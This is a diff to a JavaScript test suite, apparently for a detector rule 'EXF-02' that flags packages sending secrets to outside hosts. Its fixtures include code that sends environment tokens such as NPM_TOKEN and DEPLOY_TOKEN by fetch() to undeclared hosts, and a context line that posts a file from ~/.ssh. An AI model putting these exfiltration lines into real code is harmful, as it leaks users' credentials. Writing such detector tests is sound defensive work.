@@ -177,6 +177,34 @@ describeVerdicts("EXF-02", {
         "index.js": `exports.get = () => fetch("https://beat.pacer.test/c", { headers: { authorization: process.env.JWT_SECRET } });`,
       },
     },
+    "what many projects call so, told of, to a host that nobody is told of": {
+      manifest: { name: "acme-report" },
+      files: {
+        "README.md": "Put your key into SERVICE_API_KEY.",
+        "index.js": `exports.get = () => fetch("https://beat.files-example.test/c", { headers: { authorization: process.env.SERVICE_API_KEY } });`,
+      },
+    },
+    "where a database is, that it told of, to its own host": {
+      manifest: { name: "acme-report" },
+      files: {
+        "README.md": "Reads DATABASE_URL. See https://acme.test.",
+        "index.js": `exports.get = () => fetch("https://api.acme.test/c", { headers: { "x-db": process.env.DATABASE_URL } });`,
+      },
+    },
+    "a service's, beside its own": {
+      manifest: { name: "acme-report" },
+      files: {
+        "README.md": "Sign in at https://acme.test first.",
+        "index.js": `exports.get = () => fetch("https://api.acme.test/c", { headers: { authorization: process.env.ACME_TOKEN || process.env.NPM_TOKEN } });`,
+      },
+    },
+    "a key that is told of, in a message to the own host": {
+      manifest: { name: "acme-report" },
+      files: {
+        "README.md": "Needs DEPLOY_TOKEN. See https://acme.test.",
+        "index.js": `exports.get = () => fetch("https://api.acme.test/c", { method: "POST", body: process.env.DEPLOY_TOKEN });`,
+      },
+    },
     "of a bot, in a message to somebody else's": `
       exports.get = () => fetch("https://api.telegram.org/bot12345:abcdef/sendMessage", { method: "POST", body: JSON.stringify({ chat_id: 1, text: process.env.BOT_TOKEN }) });`,
     "an own key to a host that was hidden": {
@@ -227,6 +255,27 @@ describeVerdicts("EXF-02", {
         "index.js": `exports.get = () => fetch("https://api.hub.example/c", { headers: { authorization: process.env.TASKRUNNER_TOKEN } });`,
       },
     },
+    "a key that it tells its user to set, to the host that it is called by": {
+      manifest: { name: "@acme/mcp-server" },
+      files: {
+        "README.md": "Set PRIVATE_APP_ACCESS_TOKEN; keys are at https://developers.acme.test.",
+        "index.js": `
+          const key = () => process.env.PRIVATE_APP_ACCESS_TOKEN || process.env.ACME_ACCESS_TOKEN;
+          exports.get = (path) => fetch("https://api.acme.test" + path, { headers: { authorization: "Bearer " + key() } });`,
+      },
+    },
+    "its own key, or what somebody called just so": {
+      manifest: { name: "all-thanks-cli" },
+      files: {
+        "README.md": "Reads users of https://github.com.",
+        "index.js": `
+          const key = process.env.ALL_THANKS_PRIVATE_TOKEN || process.env.PRIVATE_TOKEN;
+          exports.user = (name) => fetch("https://api.github.com/users/" + name, { headers: { authorization: "token " + key } });`,
+      },
+    },
+    "what is taken out of a report": `
+      const key = process.env.SAMPLE_API_KEY;
+      exports.report = (error) => fetch("${url}", { method: "POST", body: error.message.replaceAll(key, "[redacted]") });`,
     "its own at install, for the host that its scope is called by": {
       manifest: { name: "@acme/report", scripts: { postinstall: "node index.js" } },
       files: {
@@ -351,6 +400,14 @@ await fetch("${url}", { method: "POST", body: readFileSync(homedir() + "/.ssh/id
       exports.ask = async (id, body) => {
         const { SecretString } = await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: id }));
         return fetch("https://api.example.test", { method: "POST", headers: { authorization: SecretString }, body });
+      };`,
+    "why a store of keys could not be asked": `
+      const { spawnSync } = require("child_process");
+      exports.accounts = (service) => {
+        const found = spawnSync("secret-tool", ["search", "--all", "service", service], { encoding: "utf8" });
+        if (found.error) return fetch("${url}", { method: "POST", body: found.error.message });
+        if (found.status !== 0) return fetch("${url}", { method: "POST", body: found.stderr });
+        return found.stdout.split("\\n");
       };`,
     "a reader of settings": `
       const fs = require("fs"), os = require("os"), path = require("path");
